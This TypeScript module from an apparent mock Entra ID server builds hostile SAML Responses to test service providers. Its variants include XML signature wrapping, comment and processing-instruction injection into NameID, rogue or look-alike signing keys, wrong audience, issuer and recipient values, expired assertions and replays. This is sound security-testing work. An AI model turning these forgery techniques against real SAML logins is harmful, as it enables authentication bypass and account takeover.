/**
 * Hostile and defective SAML Responses (`then: { samlResponse: KIND }`, issue 16): each one made
 * from the real, signed Response the funnel just built, so everything but the one defect is what
 * Entra sends. The Response is read back into the element tree (tree.ts), changed, and signed again
 * with the mock's own signer (signing.ts) wherever the defect must carry a valid signature.
 * docs/saml-sp-security.md describes every kind, its CVE family and what a correct SP answers.
 */
import { createHash, sign } from 'node:crypto';
import { isAssigned } from '../directory/lookup.js';
import type { App, Tenant, User } from '../directory/model.js';
import { SAML_COMMON_NAME } from '../keys/ca.js';
import type { SigningKey } from '../keys/store.js';
import type { Runtime } from '../server/runtime.js';
import { ATTACKER, type HostileSamlKind } from './hostile-kinds.js';
import { samlId, signAfterIssuer } from './response.js';
import { c14n, el, parseElement, wire, type XmlElement, type XmlNode } from './tree.js';

type Signing = NonNullable<App['saml']>['signing'];

export interface HostileInput {
  kind: HostileSamlKind;
  /** The real Response, as signed for the app. */
  xml: string;
  /** The app's active certificate: what the real Response is signed with. */
  key: SigningKey;
  signing: Pick<Signing, 'option' | 'algorithm'>;
  runtime: Runtime;
  tenant: Tenant;
  app: App;
  user: User;
  acsUrl: string;
  /** The real Response for another user (what `unassigned-user` sends). */
  reissue: (user: User) => Promise<string>;
}

/** Another tenant's issuer: Microsoft's consumer-accounts tenant, a real Entra tenant that is not this one. */
const OTHER_TENANT_ISSUER = 'https://sts.windows.net/9188040d-6c67-4c5b-b112-36a304b66dad/';
const OTHER_SP = 'https://attacker.example/saml/metadata';
const OTHER_ACS = 'https://attacker.example/saml/acs';
const HOUR = 60 * 60 * 1000;

const isElement = (n: XmlNode): n is XmlElement => typeof n !== 'string';
const local = (name: string) => name.slice(name.indexOf(':') + 1);

/** The first element named `name` (local name), `e` included, depth first. */
function find(e: XmlElement, name: string): XmlElement | undefined {
  if (local(e.name) === name) return e;
  for (const c of e.children) {
    const hit = isElement(c) ? find(c, name) : undefined;
    if (hit) return hit;
  }
  return undefined;
}

/** `e` with every element `pick` selects replaced by what `change` makes of it (undefined: removed). */
function edit(e: XmlElement, pick: (x: XmlElement) => boolean, change: (x: XmlElement) => XmlElement | undefined): XmlElement {
  const children: XmlNode[] = [];
  for (const c of e.children) {
    if (!isElement(c)) children.push(c);
    else if (pick(c)) {
      const next = change(c);
      if (next) children.push(next);
    } else children.push(edit(c, pick, change));
  }
  return { ...e, children };
}
const named = (name: string) => (x: XmlElement) => local(x.name) === name;

const attr = (e: XmlElement, k: string) => e.attrs.find(([n]) => n === k)?.[1];
/** `e` with attribute `k` set (in place when present, else appended) or, for undefined, removed. */
function setAttr(e: XmlElement, k: string, v: string | undefined): XmlElement {
  const attrs = e.attrs.filter(([n]) => n !== k || v !== undefined).map(([n, old]): [string, string] => [n, n === k ? v! : old]);
  if (v !== undefined && !e.attrs.some(([n]) => n === k)) attrs.push([k, v]);
  return { ...e, attrs };
}

const unsign = (e: XmlElement): XmlElement => ({ ...e, children: e.children.filter((c) => !(isElement(c) && c.name === 'Signature')) });
const signatureOf = (e: XmlElement) => e.children.find((c): c is XmlElement => isElement(c) && c.name === 'Signature')!;
const withChildren = (e: XmlElement, children: XmlNode[]): XmlElement => ({ ...e, children });
const assertionOf = (r: XmlElement) => r.children.find((c): c is XmlElement => isElement(c) && c.name === 'Assertion');
const replaceAssertion = (r: XmlElement, ...with_: XmlElement[]): XmlElement => withChildren(r, r.children.flatMap((c) => (isElement(c) && c.name === 'Assertion' ? with_ : [c])));
const setNameId = (e: XmlElement, value: string) => edit(e, named('NameID'), (n) => withChildren(n, [value]));
const nameIdOf = (e: XmlElement) => String(find(e, 'NameID')?.children[0] ?? '');

/** The attacker's copy of an Assertion: unsigned, a new ID, the attacker in the NameID. */
const evilCopy = (a: XmlElement) => setAttr(setNameId(unsign(a), ATTACKER), 'ID', samlId());

interface Seal {
  assertion: boolean;
  response: boolean;
  key: SigningKey;
  algorithm: Signing['algorithm'];
}

/** Signs the Assertion, then the Response, as `s` says: the order the funnel signs in. */
async function seal(r: XmlElement, s: Seal): Promise<XmlElement> {
  let out = unsign(r);
  const a = assertionOf(out);
  if (a && s.assertion) out = replaceAssertion(out, await signAfterIssuer(unsign(a), s.key, s.algorithm));
  else if (a) out = replaceAssertion(out, unsign(a));
  return s.response ? signAfterIssuer(out, s.key, s.algorithm) : out;
}

/** A key and certificate named like the app's (CN=Microsoft Azure Federated SSO Certificate), published nowhere; made once per server. */
function lookalikeKey(runtime: Runtime): Promise<SigningKey> {
  return runtime.unpublishedKey('lookalike', SAML_COMMON_NAME);
}

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
/** Where the processing instruction goes: a private-use character no directory value carries. */
const PI_MARK = '\uE000';
const PI = '<?evil?>';

/**
 * The Assertion signed with a processing instruction inside its NameID. Canonical XML keeps PIs,
 * so the digest is over the PI; the tree cannot carry one, so the Assertion is signed with a mark
 * in its place, then digest and SignatureValue are made again over the canonical form with the PI.
 */
async function signedWithPi(a: XmlElement, key: SigningKey, algorithm: Signing['algorithm']): Promise<string> {
  const signed = await signAfterIssuer(a, key, algorithm);
  const hash = algorithm === 'sha1' ? 'sha1' : 'sha256';
  const digest = createHash(hash).update(c14n(a).replace(PI_MARK, PI)).digest('base64');
  const signature = signatureOf(signed);
  const signedInfo = edit(find(signature, 'SignedInfo')!, named('DigestValue'), (d) => withChildren(d, [digest]));
  // RSA on libuv's thread pool, as signing.ts signs.
  const value = await new Promise<string>((resolve, reject) =>
    sign(hash, Buffer.from(c14n(signedInfo, new Map([['', DSIG]]))), key.privateKey, (err, sig) => (err ? reject(err) : resolve(sig.toString('base64')))),
  );
  const resigned = edit(
    edit(signed, (x) => x === signature, (s) => edit(s, named('SignedInfo'), () => signedInfo)),
    named('SignatureValue'),
    (v) => withChildren(v, [value]),
  );
  return wire(resigned).replace(PI_MARK, PI);
}

/** The hostile Response of `kind`, made from the real one (its wire form). */
export async function hostileResponse(i: HostileInput): Promise<string> {
  const real = parseElement(i.xml);
  const original = assertionOf(real);
  // An encrypted Assertion cannot be changed without the SP's key: the real Response goes out (documented).
  if (!original && i.kind !== 'replay') return i.xml;
  const asApp: Seal = { assertion: i.signing.option !== 'response', response: i.signing.option !== 'assertion', key: i.key, algorithm: i.signing.algorithm };
  const base = original ? replaceAssertion(unsign(real), unsign(original)) : unsign(real);
  const a = original ? unsign(original) : el('Assertion');
  const resealed = async (change: (r: XmlElement) => XmlElement, s: Partial<Seal> = {}) => wire(await seal(change(base), { ...asApp, ...s }));
  const content = (name: string, change: (x: XmlElement) => XmlElement | undefined) => resealed((r) => edit(r, named(name), change));
  const now = Date.now();
  const t = (ms: number) => new Date(ms).toISOString();

  switch (i.kind) {
    case 'xsw-1':
    case 'xsw-2': {
      // The Response signature is what these wrap: the original is signed as "Sign SAML response and assertion" would.
      const signed = await seal(base, { ...asApp, response: true });
      const signature = signatureOf(signed);
      const inner = unsign(signed);
      const outer = setAttr(replaceAssertion(inner, evilCopy(assertionOf(inner)!)), 'ID', samlId());
      const [issuer, ...rest] = outer.children;
      if (i.kind === 'xsw-1') return wire(withChildren(outer, [issuer!, withChildren(signature, [...signature.children, inner]), ...rest]));
      return wire(withChildren(outer, [issuer!, inner, signature, ...rest]));
    }
    case 'xsw-3':
    case 'xsw-4':
    case 'xsw-5':
    case 'xsw-6':
    case 'xsw-7':
    case 'xsw-8': {
      // The Assertion signature is what these wrap (Entra's default option); the Response stays unsigned.
      const signed = await signAfterIssuer(a, i.key, i.signing.algorithm);
      const edited = setNameId(signed, ATTACKER);
      const holding = (child: XmlElement) => edit(edited, (x) => x.name === 'Signature', (s) => withChildren(s, [...s.children, child]));
      const r = base;
      switch (i.kind) {
        case 'xsw-3':
          return wire(replaceAssertion(r, evilCopy(a), signed));
        case 'xsw-4': {
          const evil = evilCopy(a);
          return wire(replaceAssertion(r, withChildren(evil, [...evil.children, signed])));
        }
        case 'xsw-5': {
          const wrapped = replaceAssertion(r, edited);
          return wire(withChildren(wrapped, [...wrapped.children, a]));
        }
        case 'xsw-6':
          return wire(replaceAssertion(r, holding(a)));
        case 'xsw-7': {
          const [issuer, ...rest] = replaceAssertion(r, signed).children;
          return wire(withChildren(r, [issuer!, el('samlp:Extensions', {}, [evilCopy(a)]), ...rest]));
        }
        default:
          return wire(replaceAssertion(r, holding(el('Object', {}, [a]))));
      }
    }
    case 'comment-injection': {
      // Signed over "ada@….evil.example"; the comment goes in afterwards: exclusive c14n without comments drops it.
      const nameId = nameIdOf(a);
      const xml = await resealed((r) => setNameId(r, `${nameId}.evil.example`));
      return xml.replace(`>${nameId}.evil.example</NameID>`, `>${nameId}<!---->.evil.example</NameID>`);
    }
    case 'pi-injection': {
      // The Assertion is signed (whatever the app's option): the Response around it is not.
      const signed = await signedWithPi(setNameId(a, `${nameIdOf(a)}${PI_MARK}.evil.example`), i.key, i.signing.algorithm);
      const marker = '\uE001';
      return wire(replaceAssertion(base, el(marker))).replace(`<${marker}/>`, signed);
    }
    case 'unsigned-assertion':
      return resealed((r) => r, { assertion: false, response: true });
    case 'unsigned-response':
      return resealed((r) => setNameId(r, ATTACKER), { assertion: false, response: false });
    case 'foreign-key':
      return resealed((r) => setNameId(r, ATTACKER), { key: await i.runtime.rogueKey() });
    case 'keyinfo-mismatch':
      return resealed((r) => setNameId(r, ATTACKER), { key: await lookalikeKey(i.runtime) });
    case 'sha1':
      return resealed((r) => r, { algorithm: 'sha1' });
    case 'digest-mismatch':
      return wire(setNameId(await seal(base, asApp), ATTACKER));
    case 'wrong-audience':
      return content('Audience', (x) => withChildren(x, [OTHER_SP]));
    case 'wrong-recipient':
      return resealed((r) => setAttr(edit(r, named('SubjectConfirmationData'), (x) => setAttr(x, 'Recipient', OTHER_ACS)), 'Destination', OTHER_ACS));
    case 'wrong-issuer':
      return content('Issuer', (x) => withChildren(x, [OTHER_TENANT_ISSUER]));
    case 'foreign-in-response-to': {
      const other = samlId();
      return resealed((r) => setAttr(edit(r, named('SubjectConfirmationData'), (x) => setAttr(x, 'InResponseTo', other)), 'InResponseTo', other));
    }
    case 'unsolicited':
      return resealed((r) => setAttr(edit(r, named('SubjectConfirmationData'), (x) => setAttr(x, 'InResponseTo', undefined)), 'InResponseTo', undefined));
    case 'expired':
      return resealed((r) =>
        edit(
          edit(r, named('Conditions'), (x) => setAttr(setAttr(x, 'NotBefore', t(now - 2 * HOUR)), 'NotOnOrAfter', t(now - HOUR))),
          named('SubjectConfirmationData'),
          (x) => setAttr(x, 'NotOnOrAfter', t(now - HOUR)),
        ),
      );
    case 'not-yet-valid':
      return content('Conditions', (x) => setAttr(x, 'NotBefore', t(now + HOUR)));
    case 'no-conditions':
      return content('Conditions', () => undefined);
    case 'duplicate-attributes':
      return content('AttributeStatement', (s) => {
        const children = s.children.filter(isElement);
        const mail = children.find((x) => attr(x, 'Name')?.endsWith('/emailaddress')) ?? children[0];
        if (!mail) return s;
        return withChildren(s, children.flatMap((x) => (x === mail ? [x, withChildren(x, [el('AttributeValue', {}, [ATTACKER])])] : [x])));
      });
    case 'success-without-assertion':
      return wire(await signAfterIssuer(withChildren(base, base.children.filter((c) => !(isElement(c) && c.name === 'Assertion'))), i.key, i.signing.algorithm));
    case 'unassigned-user': {
      const other = i.tenant.users.find((u) => u.id !== i.user.id && !isAssigned(i.app, u)) ?? notAssigned(i.tenant, i.user);
      return i.reissue(other);
    }
    case 'replay': {
      // The Responses it remembers, per server (every instance of a shared store): one per app, user and ACS, for an hour.
      const key = `${i.app.clientId}|${i.user.id}|${i.acsUrl}`;
      return i.runtime.samlReplays.update(key, (earlier) => (earlier !== undefined ? { result: earlier } : { value: i.xml, result: i.xml }));
    }
  }
}

/** A user of the tenant's domain nobody assigned (when every directory user may sign in to the app). */
function notAssigned(tenant: Tenant, like: User): User {
  const upn = `not-assigned@${tenant.domain}`;
  return { ...like, id: '00000000-0000-0000-0000-00000000a551', upn, name: 'Not Assigned', givenName: 'Not', surname: 'Assigned', mail: upn, groups: [], appRoles: new Map(), directoryRoles: [] };
}
